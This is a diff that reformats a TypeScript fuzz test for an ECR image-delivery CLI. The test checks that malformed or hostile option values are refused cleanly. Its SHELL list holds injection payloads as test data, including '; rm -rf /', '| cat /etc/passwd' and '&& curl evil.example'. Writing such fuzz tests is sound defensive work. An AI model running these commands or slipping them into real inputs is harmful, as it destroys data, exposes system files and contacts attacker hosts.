@@ -30,7 +30,19 @@ function prng(seed: number): () => number {
   };
 }
 
-const SHELL = ['$(touch /tmp/fuzz-pwned)', '`id`', '; rm -rf /', '| cat /etc/passwd', '&& curl evil.example', '> /etc/x', "'\"", '\\', '${IFS}', '$HOME', '%0A::error::x'];
+const SHELL = [
+  '$(touch /tmp/fuzz-pwned)',
+  '`id`',
+  '; rm -rf /',
+  '| cat /etc/passwd',
+  '&& curl evil.example',
+  '> /etc/x',
+  '\'"',
+  '\\',
+  '${IFS}',
+  '$HOME',
+  '%0A::error::x',
+];
 // Unicode that breaks naive code: controls, C1, bidi override, zero-width, line separators, astral, lone surrogates.
 const POOLS = [
   () => String.fromCharCode(0x20 + Math.floor(rand() * 95)),
@@ -46,9 +58,25 @@ let rand = prng(SEED);
 const pick = <T>(items: readonly T[]): T => items[Math.floor(rand() * items.length)];
 const unicode = (n: number) => Array.from({ length: n }, () => pick(POOLS)()).join('');
 /** A value that looks right for the option, so appended junk is what has to be caught. */
-const plausible = (spec: OptionSpec): string => spec.default ?? ({ repository: 'team/api', 'aws-region': 'eu-west-1', 'role-to-assume': 'arn:aws:iam::123456789012:role/ci',
-  'registry-id': '123456789012', 'commit-sha': 'a'.repeat(40), tags: 'latest', 'build-args': 'A=1', platform: 'linux/amd64', image: 'app:1', target: 'prod',
-  'kms-key': 'alias/ecr', 'role-session-name': 'ci-run' } as Record<string, string>)[spec.name] ?? 'x';
+const plausible = (spec: OptionSpec): string =>
+  spec.default ??
+  (
+    {
+      repository: 'team/api',
+      'aws-region': 'eu-west-1',
+      'role-to-assume': 'arn:aws:iam::123456789012:role/ci',
+      'registry-id': '123456789012',
+      'commit-sha': 'a'.repeat(40),
+      tags: 'latest',
+      'build-args': 'A=1',
+      platform: 'linux/amd64',
+      image: 'app:1',
+      target: 'prod',
+      'kms-key': 'alias/ecr',
+      'role-session-name': 'ci-run',
+    } as Record<string, string>
+  )[spec.name] ??
+  'x';
 
 const GENERATORS: Array<[string, (spec: OptionSpec) => string]> = [
   ['unicode', () => unicode(1 + Math.floor(rand() * 40))],
@@ -77,7 +105,10 @@ function mustRefuse(name: string, value: string): boolean {
   if (/[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]/.test(v)) return true;
   if (v.length > 65536) return true;
   if (LIST.has(name)) {
-    const entries = v.split(name === 'tags' ? /[\n,]/ : /\n/).map((e) => e.replace(/\r$/, '').trim()).filter(Boolean);
+    const entries = v
+      .split(name === 'tags' ? /[\n,]/ : /\n/)
+      .map((e) => e.replace(/\r$/, '').trim())
+      .filter(Boolean);
     if (name === 'tags') return entries.some((e) => !/^[A-Za-z0-9_.-]+$/.test(e));
     // Build secrets (issue 12): `id=…` with docker's secret-id charset; ssh also takes `default`.
     if (SECRET_LISTS.has(name)) return entries.some((e) => !(name === 'ssh' && e === 'default') && !/^[A-Za-z0-9_.-]{1,128}=/.test(e));
@@ -105,7 +136,8 @@ function cases(): Case[] {
   });
 }
 
-const show = (c: Case) => `seed ${SEED.toString(16)} case ${c.index} (${c.kind}) ${c.name}=${JSON.stringify(c.value.slice(0, 60))}${c.value.length > 60 ? `…(${c.value.length})` : ''}`;
+const show = (c: Case) =>
+  `seed ${SEED.toString(16)} case ${c.index} (${c.kind}) ${c.name}=${JSON.stringify(c.value.slice(0, 60))}${c.value.length > 60 ? `…(${c.value.length})` : ''}`;
 /** One line in any log: no line breaks of any kind, no control or invisible characters. */
 const ONE_LINE = /^[^\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u200b-\u200f\ufeff]*$/;
 
@@ -116,7 +148,9 @@ beforeAll(async () => {
   context = mkdtempSync(join(tmpdir(), 'fuzz-ctx-'));
   writeFileSync(join(context, 'Dockerfile'), 'FROM scratch\n');
   // Only the STS/ECR endpoint is needed, to prove that no call reaches it; no registry behind it.
-  emulator = new AwsEmulator({ registry: { url: 'http://127.0.0.1:9', host: '127.0.0.1:9', user: 'AWS', password: 'unused', storageDir: context } as Registry });
+  emulator = new AwsEmulator({
+    registry: { url: 'http://127.0.0.1:9', host: '127.0.0.1:9', user: 'AWS', password: 'unused', storageDir: context } as Registry,
+  });
   await emulator.start();
 });
 
@@ -143,7 +177,8 @@ describe('fuzzed option values', () => {
         const message = err.message;
         if (err.exitCode !== 2) problems.push(`exit code ${err.exitCode}: ${show(c)}`);
         if (!ONE_LINE.test(message)) problems.push(`not one clean line: ${JSON.stringify(message.slice(0, 120))} for ${show(c)}`);
-        if (!message.startsWith(`${c.name}: `) && !message.startsWith('dockerfile: ')) problems.push(`names another option: ${JSON.stringify(message.slice(0, 80))} for ${show(c)}`);
+        if (!message.startsWith(`${c.name}: `) && !message.startsWith('dockerfile: '))
+          problems.push(`names another option: ${JSON.stringify(message.slice(0, 80))} for ${show(c)}`);
         if (message.length > 600) problems.push(`${message.length} characters long: ${show(c)}`);
       }
     }
@@ -160,15 +195,31 @@ describe('fuzzed option values', () => {
     const runOne = async (c: Case, i: number) => {
       const byFlag = i % 2 === 0;
       const base: Record<string, string> = { repository: 'team/api', context, 'commit-sha': 'b'.repeat(40) };
-      const args = byFlag ? [`--${c.name}=${c.value}`, ...Object.entries(base).filter(([k]) => k !== c.name).map(([k, v]) => `--${k}=${v}`)] : [];
-      const env: NodeJS.ProcessEnv = { PATH: process.env.PATH, HOME: context, AWS_REGION: 'us-east-1', AWS_ENDPOINT_URL_STS: emulator.url, AWS_ENDPOINT_URL_ECR: emulator.url,
-        AWS_ACCESS_KEY_ID: 'AKIAFUZZEXAMPLE00001', AWS_SECRET_ACCESS_KEY: 'fuzz', AWS_EC2_METADATA_DISABLED: 'true' };
+      const args = byFlag
+        ? [
+            `--${c.name}=${c.value}`,
+            ...Object.entries(base)
+              .filter(([k]) => k !== c.name)
+              .map(([k, v]) => `--${k}=${v}`),
+          ]
+        : [];
+      const env: NodeJS.ProcessEnv = {
+        PATH: process.env.PATH,
+        HOME: context,
+        AWS_REGION: 'us-east-1',
+        AWS_ENDPOINT_URL_STS: emulator.url,
+        AWS_ENDPOINT_URL_ECR: emulator.url,
+        AWS_ACCESS_KEY_ID: 'AKIAFUZZEXAMPLE00001',
+        AWS_SECRET_ACCESS_KEY: 'fuzz',
+        AWS_EC2_METADATA_DISABLED: 'true',
+      };
       if (!byFlag) for (const [k, v] of Object.entries({ ...base, [c.name]: c.value })) env[envName(k)] = v;
       const run = await runProcess(NODE24, [BUNDLE, ...args], env);
       const lines = run.stderr.split('\n').filter(Boolean);
       const how = `${byFlag ? 'flag' : 'env'} ${show(c)}`;
       if (run.code !== 2) problems.push(`exit ${run.code}: ${how}: ${run.stderr.slice(0, 200)}`);
-      if (lines.length !== 1 || !lines[0].startsWith('ecr-deliver: ') || !ONE_LINE.test(lines[0])) problems.push(`not one clean line (${JSON.stringify(run.stderr.slice(0, 200))}): ${how}`);
+      if (lines.length !== 1 || !lines[0].startsWith('ecr-deliver: ') || !ONE_LINE.test(lines[0]))
+        problems.push(`not one clean line (${JSON.stringify(run.stderr.slice(0, 200))}): ${how}`);
       if (/\n\s+at |node:internal|Error: /.test(run.stderr)) problems.push(`stack trace: ${how}`);
       if (run.stdout !== '') problems.push(`stdout: ${how}`);
     };
